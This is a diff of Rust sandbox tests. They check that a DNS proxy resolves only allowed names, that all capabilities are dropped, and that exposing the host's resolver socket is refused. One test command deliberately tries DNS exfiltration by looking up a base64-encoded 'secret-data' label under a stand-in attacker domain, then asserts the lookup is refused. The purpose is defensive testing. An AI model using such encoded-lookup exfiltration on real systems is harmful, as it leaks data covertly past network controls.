@@ -244,6 +244,8 @@ impl Resolve for RecordingResolver {
         host: &'a str,
         port: u16,
     ) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<Vec<SocketAddr>>> + Send + 'a>> {
+        // The stub asks for absolute names (a final dot), the proxy for names as given.
+        let host = host.strip_suffix('.').unwrap_or(host);
         self.0.lock().unwrap().push(host.to_owned());
         Box::pin(async move {
             match host {
@@ -275,7 +277,11 @@ async fn names_resolve_inside_only_as_the_rules_allow_and_nothing_else_is_looked
     let out = sh(
         &sandbox,
         &lab,
-        "grep -v '^#' /etc/resolv.conf; getent ahostsv4 example.test | head -1;          getent hosts c2VjcmV0LWRhdGE.attacker.test || echo exfil=refused",
+        concat!(
+            "grep -v '^#' /etc/resolv.conf; getent ahostsv4 example.test | head -1; ",
+            "getent hosts c2VjcmV0LWRhdGE.attacker.test || echo exfil=refused; ",
+            "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status"
+        ),
     )
     .await;
     assert!(out.status.success(), "{out:?}");
@@ -286,6 +292,18 @@ async fn names_resolve_inside_only_as_the_rules_allow_and_nothing_else_is_looked
     );
     assert!(out.stdout.contains("203.0.113.7"), "{out:?}");
     assert!(out.stdout.contains("exfil=refused"), "{out:?}");
+    // The capability that bound the stub's port (under bubblewrap) is gone, with every
+    // other, before the command starts.
+    let caps: Vec<&str> = out
+        .stdout
+        .lines()
+        .filter(|l| l.starts_with("Cap"))
+        .collect();
+    assert_eq!(caps.len(), 5, "{out:?}");
+    assert!(
+        caps.iter().all(|l| l.ends_with("0000000000000000")),
+        "{caps:?}"
+    );
     let looked_up = asked.0.lock().unwrap().clone();
     assert!(
         looked_up.iter().all(|name| name == "example.test"),
@@ -326,6 +344,53 @@ print("id", r[:2].hex(), "rcode", r[3] & 15)'"#,
         asked.0.lock().unwrap().iter().all(|n| n == "example.test"),
         "a refused name reached the resolver"
     );
+}
+
+/// A way to the host's own resolver over a Unix socket (D-Bus, systemd-resolved, nscd,
+/// Avahi), shown inside by a readable path, would look any name up: a proxy run that
+/// would show one is refused before anything runs, naming it.
+#[tokio::test]
+async fn a_proxy_run_that_would_show_the_hosts_resolver_is_refused() {
+    if !bwrap_usable() {
+        return;
+    }
+    let doors = [
+        "/run/dbus",
+        "/run/systemd/resolve",
+        "/run/nscd",
+        "/run/avahi-daemon",
+    ];
+    let Some(door) = doors.iter().find(|d| Path::new(d).is_dir()) else {
+        eprintln!("SKIPPED: none of {doors:?} exists here, so none could be shown");
+        return;
+    };
+    let lab = lab();
+    let marker = lab.ws().join("ran");
+    let sandbox = Arc::new(
+        lab.namespace_sandbox_reading(sandbox::Network::Proxy, vec![PathBuf::from(door)])
+            .with_egress(sandbox::Egress {
+                gate: Arc::new(ListGate(vec![("example.test".into(), 443)])),
+                resolver: Arc::new(RecordingResolver::default()),
+                limits: Limits::default(),
+            }),
+    );
+    let err = sandbox
+        .shell(Profile::Writable)
+        .exec(
+            &[
+                "/bin/sh".into(),
+                "-c".into(),
+                format!("touch {}", marker.display()),
+            ],
+            &lab.options(&[]),
+        )
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains(door) && err.to_string().contains("resolver"),
+        "{err}"
+    );
+    assert!(!marker.exists(), "the command ran");
 }
 
 #[tokio::test]
